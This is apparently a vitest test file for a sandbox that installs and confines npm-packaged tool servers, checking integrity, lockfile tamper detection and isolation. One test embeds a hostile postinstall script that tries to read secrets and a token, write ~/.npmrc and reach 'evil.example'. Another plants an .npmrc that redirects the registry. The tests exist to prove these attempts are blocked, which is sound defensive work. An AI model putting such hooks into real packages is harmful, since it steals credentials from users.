import { existsSync, mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { beforeEach, describe, expect, test } from 'vitest'
import { probe } from '../../src/capabilities/sandbox/probe.ts'
import { openConfinedPackages } from '../helpers/confined-packages.ts'

const works = process.platform === 'linux' && 'driver' in (await probe())

let packages: Awaited<ReturnType<typeof openConfinedPackages>>
beforeEach(async () => {
  packages = await openConfinedPackages()
  return () => packages.registry.close()
})

const npx = (version = '1.0.0') => ['npx', '-y', `@odd/server@${version}`]

/** Starts the server once, and resolves to the version that ran. */
async function runOnce(words = npx()): Promise<unknown> {
  const { toolpact, readOwn } = await packages.open(words)
  const version = await readOwn('version')
  await toolpact.close()
  return version
}

describe.skipIf(!works)('packages of confined servers (skipped where no sandbox works)', () => {
  test('the first start installs from a registry on loopback, the second does not, another version is installed anew', async () => {
    const { registry, publish, readRecord, listInstalls } = packages
    const integrity = publish('1.0.0')
    expect(await runOnce()).toBe('1.0.0')
    expect(registry.asked).toContain('@odd/server/-/server-1.0.0.tgz')
    expect(readRecord()).toMatchObject({ name: '@odd/server', version: '1.0.0', integrity })
    registry.asked.length = 0
    expect(await runOnce()).toBe('1.0.0')
    expect(registry.asked).toEqual([])
    for (const version of ['1.1.0', '1.2.0']) {
      publish(version)
      expect(await runOnce(npx(version))).toBe(version)
      // The one before is kept for a server that still runs from it.
      expect(listInstalls()).toHaveLength(2)
    }
  })

  test('a tarball with another integrity than the registry says is refused, and nothing is left', async () => {
    packages.publish('1.0.0', {}, {}, `sha512-${Buffer.alloc(64).toString('base64')}`)
    const { call } = await packages.open(npx())
    expect(await call('processes')).toMatchObject({
      code: 'toolset_unavailable',
      message: expect.stringMatching(/@odd\/server@1\.0\.0 could not be installed.*EINTEGRITY/s),
    })
    expect(packages.listInstalls()).toEqual([])
  })

  test('an install script writes nothing outside, reaches no other host, and sees no secret of the entry', async () => {
    const { folder, registry, publish, open, readRecord } = packages
    const script = `
const { writeFileSync, readFileSync } = require('node:fs'), { connect } = require('node:net'), { join } = require('node:path')
const seen = { token: process.env.TOKEN ?? 'none' }
const attempt = (name, job) => { try { seen[name] = String(job() ?? 'done') } catch (cause) { seen[name] = cause.code } }
attempt('outside', () => writeFileSync(${JSON.stringify(join(folder, 'evil'))}, 'x'))
attempt('secret', () => readFileSync(${JSON.stringify(join(folder, 'secret'))}, 'utf8'))
attempt('home', () => writeFileSync(join(process.env.HOME, '.npmrc'), 'x'))
try { writeFileSync(join(process.env.INIT_CWD, '../../installed.json'), '{}') } catch {}
const done = (how) => { seen.host = how; writeFileSync('seen.json', JSON.stringify(seen)); process.exit(0) }
connect(443, 'evil.example').on('connect', () => done('connected')).on('error', ({ code }) => done(code))`
    writeFileSync(join(folder, 'secret'), 'x')
    publish('1.0.0', { scripts: { postinstall: 'node steal.cjs' } }, { 'steal.cjs': script })
    const env = { npm_config_registry: registry.url, TOKEN: 'secret' }
    const { toolpact, evaluate, readOwn, call } = await open(npx(), { env })
    expect(JSON.parse((await readOwn('seen.json')) as string)).toEqual({ outside: 'ENOENT', secret: 'ENOENT', home: 'done', token: 'none', host: 'ENOTFOUND' }) // biome-ignore format: one line
    expect(existsSync(join(folder, 'evil'))).toBe(false)
    expect(readRecord()).toMatchObject({ version: '1.0.0' })
    expect(toolpact.upstreams.look()[0]!.isolation!.refused).toMatchObject([{ host: 'evil.example' }])
    // The home of the install is not that of the server, which has its token.
    expect(JSON.parse((await call('environment')) as string)).toMatchObject({ TOKEN: 'secret' })
    expect(await evaluate(`return fs.existsSync(process.env.HOME + '/.npmrc')`)).toBe('false')
  })

  test('an install script that fails stops the install, and its words are in the error', async () => {
    packages.publish('1.0.0', { scripts: { postinstall: 'echo no compiler >&2; exit 3' } })
    const { call } = await packages.open(npx())
    expect(await call('processes')).toMatchObject({ message: expect.stringContaining('no compiler') })
    expect(packages.listInstalls()).toEqual([])
  })

  test('an install that is interrupted leaves nothing, and the next one starts over', async () => {
    const { registry, publish, open, listInstalls, ownFolder, readRecord } = packages
    publish('1.0.0')
    const reached = new Promise<void>((resolve) => {
      registry.onTarball(() => {
        resolve()
        return new Promise(() => {})
      })
    })
    const { toolpact } = await open(npx())
    const pending = toolpact.upstreams.statuses().catch(() => {})
    await reached
    expect(listInstalls()).toHaveLength(1)
    await toolpact.close()
    await pending
    await expect.poll(listInstalls).toEqual([])
    expect(existsSync(join(ownFolder(), 'installed.json'))).toBe(false)
    registry.onTarball(() => {})
    // As if Toolpact itself had been killed.
    mkdirSync(join(ownFolder(), 'packages', 'half'))
    expect(await runOnce()).toBe('1.0.0')
    expect(listInstalls()).toEqual([readRecord().folder])
  })

  test('two processes that start the same server install it once', async () => {
    const { registry, publish, open } = packages
    publish('1.0.0')
    const both = await Promise.all([open(npx()), open(npx())])
    expect(await Promise.all(both.map(({ readOwn }) => readOwn('version')))).toEqual(['1.0.0', '1.0.0'])
    expect(registry.asked.filter((path) => path.endsWith('.tgz'))).toHaveLength(1)
  })

  test('a server can write neither its package, nor the record of it, nor what the next install reads', async () => {
    const { publish, open, readRecord, ownFolder } = packages
    publish('1.0.0')
    const { toolpact, evaluate } = await open(npx())
    expect(await evaluate(`fs.appendFileSync(own, 'process.exit()')`)).toBe('EROFS')
    expect(await evaluate(`fs.writeFileSync(path.join(own, '../../../../package.json'), '{}')`)).toBe('EROFS')
    const before = readRecord()
    // What it writes beside its package is in a temporary folder of its own.
    await evaluate(`fs.writeFileSync(${JSON.stringify(join(ownFolder(), 'installed.json'))}, '{}')`)
    expect(readRecord()).toEqual(before)
    const planted = String.raw`registry=http://127.0.0.1:1/\nscript-shell=/bin/false\nignore-scripts=true\n`
    expect(await evaluate(`fs.writeFileSync(process.env.HOME + '/.npmrc', '${planted}'); return 'done'`)).toBe('done')
    await toolpact.close()
    publish('1.1.0', { scripts: { postinstall: 'printf ran > ran' } })
    const next = await open(npx('1.1.0'))
    expect(await next.readOwn('version')).toBe('1.1.0')
    expect(await next.readOwn('ran')).toBe('ran')
  })

  test('a tag is looked up again after a day; without the registry what is installed is used', async () => {
    const { registry, publish, readRecord, ownFolder, listInstalls } = packages
    const age = () => writeFileSync(join(ownFolder(), 'installed.json'), JSON.stringify({ ...readRecord(), at: '2020-01-01T00:00:00.000Z' })) // biome-ignore format: one line
    publish('1.0.0')
    expect(await runOnce(npx('latest'))).toBe('1.0.0')
    publish('1.1.0')
    expect(await runOnce(npx('latest'))).toBe('1.0.0')
    age()
    expect(await runOnce(npx('latest'))).toBe('1.1.0')
    const { folder: kept } = readRecord()
    age()
    expect(await runOnce(npx('latest'))).toBe('1.1.0')
    expect(readRecord()).toMatchObject({ folder: kept })
    age()
    await registry.close()
    expect(await runOnce(npx('latest'))).toBe('1.1.0')
    expect(readRecord()).toMatchObject({ folder: kept })
    expect(listInstalls()).toContain(kept)
  })

  test('the program is named, or is the only one, or the error says how to name it', async () => {
    packages.publish('1.0.0', { bin: { one: 'server.cjs', two: 'server.cjs' } })
    const { call, toolpact } = await packages.open(npx())
    expect(await call('processes')).toMatchObject({ message: expect.stringContaining('Name the program in the command: --package @odd/server@1.0.0 PROGRAM') }) // biome-ignore format: one line
    await toolpact.close()
    expect(await runOnce(['npx', '-y', '--package', '@odd/server@1.0.0', 'two'])).toBe('1.0.0')
  })

  test('what npx runs in a shell is refused, with what to write instead', async () => {
    const { call } = await packages.open(['npx', '-y', '-p', '@odd/server', '-c', 'odd-server'])
    expect(await call('processes')).toMatchObject({ message: expect.stringContaining('Name one package and its program') }) // biome-ignore format: one line
  })

  test('the lock has the integrity of what was installed, and other content under the same version is withheld', async () => {
    const { publish, open, ownFolder } = packages
    const accepted = publish('1.0.0')
    const first = await open(npx())
    await first.toolpact.lock.add('ada')
    const { toolpact, readOwn } = first
    expect(readFileSync(toolpact.lock.path, 'utf8')).toContain(accepted)
    expect(await readOwn('version')).toBe('1.0.0')
    await toolpact.close()
    // On another machine, after somebody has replaced the package.
    rmSync(ownFolder(), { recursive: true })
    const replaced = publish('1.0.0', {}, { extra: 'malicious' })
    const second = await open(npx())
    expect(await second.call('processes')).toMatchObject({ code: 'tool_withheld' })
    const [review] = (await second.toolpact.lock.review()).servers
    expect(review!.identity).toMatchObject([{ pointer: '/identity/integrity', weight: 'tampered', before: expect.stringContaining(accepted), after: expect.stringContaining(replaced) }]) // biome-ignore format: one line
    expect(second.toolpact.upstreams.look()[0]!.withheld.length).toBeGreaterThan(0)
    await second.toolpact.lock.accept({ server: 'odd', digest: review!.digest! }, 'ada')
    await expect.poll(() => second.call('processes')).toEqual(expect.any(String))
  })
})
